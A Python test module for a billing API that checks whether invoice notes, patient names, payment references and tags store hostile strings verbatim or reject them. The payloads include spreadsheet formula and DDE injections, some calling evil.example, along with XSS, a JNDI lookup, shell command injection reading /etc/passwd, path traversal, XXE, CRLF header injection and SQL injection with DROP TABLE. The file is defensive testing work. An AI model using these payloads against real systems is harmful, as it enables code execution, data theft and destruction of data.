"""Texts that mean something elsewhere, in a spreadsheet, a page, a shell or a query: here they are texts, kept as sent.

What is kept is said beside each; spaces around a text go, and nothing else of it.
"""

from typing import Any

from billing.tests.hostile.case import Case, on, raw

invoice = on("POST /invoice/", {"patient_id": "<patient>"}, status=201)
patient = on("POST /patient/", {"family_name": "Kim"}, status=201)
service = on("POST /service/", {"code": "X1", "description": "x", "unit_price": 1}, status=201)
tag = on("POST /tag/", {})
pay = on("POST /invoice/<issued>/payments", {"amount": 1, "method": "cash"}, status=201)
put = on("PUT /invoice/<draft>", {"patient_id": "<patient>"}, status=200)
book = on("POST /appointment/", {"patient_id": "<patient>", "starts_at": "2026-06-16T09:00:00Z"}, status=201)


def notes(name: str, text: str, kept: str | None = None) -> Case:
    """An invoice with these notes."""
    return invoice(f"notes with {name}", {"notes": text}, 201, expect={"/notes": text if kept is None else kept})


def refused_notes(name: str, text: str) -> Case:
    """An invoice with notes that cannot be stored."""
    return invoice(f"notes with {name}", {"notes": text}, 400, "bad_text", "/notes")


def line(name: str, text: str) -> Case:
    """An invoice with an item of this description."""
    items = [{"description": text, "unit_price": 1}]
    return invoice(f"a description with {name}", {"items": items}, 201, expect={"/items/0/description": text})


def named(name: str, text: str, kept: str | None = None) -> Case:
    """A patient with this family name."""
    return patient(f"a name with {name}", {"family_name": text}, 201, expect={"/family_name": kept or text})


def tagged(name: str, words: Any, code: str) -> Case:
    """An invoice with tags that are none."""
    return on("POST /invoice/", {"patient_id": "<patient>"})(f"tags with {name}", {"tags": words}, 400, code, "/tags")


CASES = [
    # -- Cells of a spreadsheet
    notes("a command of a spreadsheet", "=cmd|' /C calc'!A0"),
    notes("a link of a spreadsheet", '=HYPERLINK("http://evil.example/?x="&A1,"Pay here")'),
    notes("a sum with a plus", "+1+1"),
    notes("a sum with a minus", "-1+1|cmd"),
    notes("a function with an at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    notes("a tab and a formula", "\t=1+1", "=1+1"),
    notes("a carriage return and a formula", "\r=1+1", "=1+1"),
    line("a command of a spreadsheet", "=cmd|' /C calc'!A0"),
    line("an import of a spreadsheet", '=IMPORTXML("http://evil.example","//a")'),
    named("a formula", "=1+1"),
    pay("a formula as reference", {"reference": "=1+1"}, expect={"/reference": "=1+1"}),
    service("a formula as code", {"code": "=1+1"}, expect={"/code": "=1+1"}),
    tag("a formula", {"name": "=1+1"}, 201, expect={"/name": "=1+1"}),
    # -- Pages and templates
    notes("a script", "<script>alert(1)</script>"),
    notes("an event", "<img src=x onerror=alert(1)>"),
    notes("the end of a script", "</script><svg/onload=alert(1)>"),
    notes("a link that runs", "javascript:alert(document.cookie)"),
    notes("a template", "{{ 7*7 }}{% include 'x' %}${7*7}#{7*7}<%= 7*7 %>"),
    notes("a format string", "%s%n%x{0.__class__}{settings.SECRET_KEY}"),
    notes("a look-up of a logger", "${jndi:ldap://evil.example/a}"),
    named("a script", "<script>alert(1)</script>"),
    line("a script", '"><script>alert(1)</script>'),
    # -- Shells, files, headers
    notes("a command", "; cat /etc/passwd #`id`$(id)|id"),
    notes("a path", "../../../../etc/passwd"),
    notes("a header", "x\r\nSet-Cookie: a=b"),
    pay("a header as reference", {"reference": "x\r\nLocation: http://evil.example"}, 400, "bad_text"),
    notes("an entity", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;"),
    # -- Queries
    notes("a statement", "'; DROP TABLE billing_invoice; --"),
    notes("an operator", '{"$gt": ""}'),
    notes("a backslash at its end", "x\\"),
    named("a quotation mark", "O'Brien' OR 1=1 --"),
    service("a statement as description", {"description": "x'); DELETE FROM x; --"}, expect={"/code": "X1"}),
    book("a statement as reason", {"reason": "' UNION SELECT 1 --"}, expect={"/reason": "' UNION SELECT 1 --"}),
    # -- Writing of the world
    refused_notes("a text from right to left", "a\u202egnp.exe"),
    notes("nothing to see", "a\u200b\u200c\u200d\u2060b"),
    notes("a mark alone", "\u0301"),
    notes("sixty marks on one letter", "Z" + "\u0351" * 60),
    notes("faces", "🦷👩🏽‍⚕️🏳️‍🌈"),
    refused_notes("the last code point", "x\U0010ffff"),
    refused_notes("a code point that is not a character", "x\ufffe\uffff"),
    refused_notes("a control character", "a\u0007b\u001b[2Jc"),
    notes("a line separator", "a\u2028b\u2029c"),
    notes("a word that breaks phones", "لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗"),
    notes("a byte order mark inside", "a\ufeffb"),
    notes("spaces around it", "  x \u3000", "x"),
    notes("5,000 characters of four bytes", "🦷" * 5_000),
    notes("a placeholder", "{patient} %(notes)s"),
    notes("a text in full width", "Ｍａｒｉａ"),
    named("a letter that grows in upper case", "ŉßﬃ"),
    named("a letter without a dot", "İıI"),
    named("another alphabet", "Кузнецов-Παπάς"),
    named("a hundred letters of four bytes", "𝕏" * 100),
    tag("faces", {"name": "🦷"}, 201, expect={"/name": "🦷"}),
    put("a text from right to left", {"notes": "a\u202ex"}, 400, "bad_text", "/notes"),
    put("one emoji in an escaped pair", {"notes": raw('"\\ud83e\\uddb7"')}, expect={"/notes": "🦷"}),
    invoice(
        "an address of many lines",
        {"bill_to": {"name": "x", "address": "a\nb\n"}},
        expect={"/bill_to/address": "a\nb"},
    ),
    # -- Texts that are none
    on("POST /tag/")("a name of spaces", {"name": "\u3000\u2003 "}, 400, "blank", "/name"),
    on("POST /tag/")("a name with a comma", {"name": "a,b"}, 400, "comma", "/name"),
    on("POST /tag/")("the name of another in capitals", {"name": "RECALL"}, 409, "tag_taken", "/name"),
    on("PUT /tag/<tag>")("the name of another", {"name": "slow PAYER"}, 409, "tag_taken", "/name"),
    on("POST /patient/")("a name of spaces", {"family_name": " "}, 400, "required", "/family_name"),
    on("POST /patient/")("no name", {}, 400, "required", "/family_name"),
    on("POST /service/")("a code of spaces", {"code": " ", "description": "x", "unit_price": 1}, 400, "blank", "/code"),
    on("POST /invoice/<issued>/write-off")("a reason of spaces", {"reason": "\u2003"}, 400, "blank", "/reason"),
    on("POST /invoice/<issued>/correct")("a reason of spaces", {"reason": "\t\n"}, 400, "blank", "/reason"),
    # -- Bounds of single texts
    on("POST /tag/")("51 characters", {"name": "x" * 51}, 400, "too_long", "/name"),
    on("POST /patient/")("a name of 101", {"family_name": "x" * 101}, 400, "too_long", "/family_name"),
    on("POST /patient/")("a language of words", {"family_name": "x", "language": "de_DE"}, 400, "invalid", "/language"),
    on("POST /patient/")("a mail without an at", {"family_name": "x", "email": "a"}, 400, "invalid", "/email"),
    on("POST /patient/")("a mail of two", {"family_name": "x", "email": "a@b.de,c@d.de"}, 400, "invalid", "/email"),
    on("POST /patient/")("a mail with a header", {"family_name": "x", "email": "a@b.de\nBcc: c@d.de"}, 400, "bad_text"),
    on("POST /patient/")("born tomorrow", {"family_name": "x", "birth_date": "2026-06-16"}, 400, "in_the_future"),
    on("POST /patient/")("born too early", {"family_name": "x", "birth_date": "1899-12-31"}, 400, "", "/birth_date"),
    on("POST /service/")("an empty body", {}, 400, "invalid"),
    # -- Tags of an invoice
    tagged("a comma", ["a,b"], "bad_word"),
    tagged("an empty one", ["a", ""], "bad_word"),
    tagged("a number", [1], "bad_word"),
    tagged("nothing in them", [None], "bad_word"),
    tagged("a list in them", [["a"]], "bad_word"),
    tagged("a long one", ["x" * 51], "bad_word"),
    tagged("21 of them", [f"t{n}" for n in range(21)], "too_many"),
    tagged("1,000 of them", ["t"] * 1_000, "too_many"),
    tagged("an object in them", [{"name": "Recall"}], "bad_word"),
    on("POST /invoice/", {"patient_id": "<patient>"})(
        "tags that differ in case alone", {"tags": ["A", "a", " a "]}, 201, expect={"/tags": ["A"]}
    ),
]
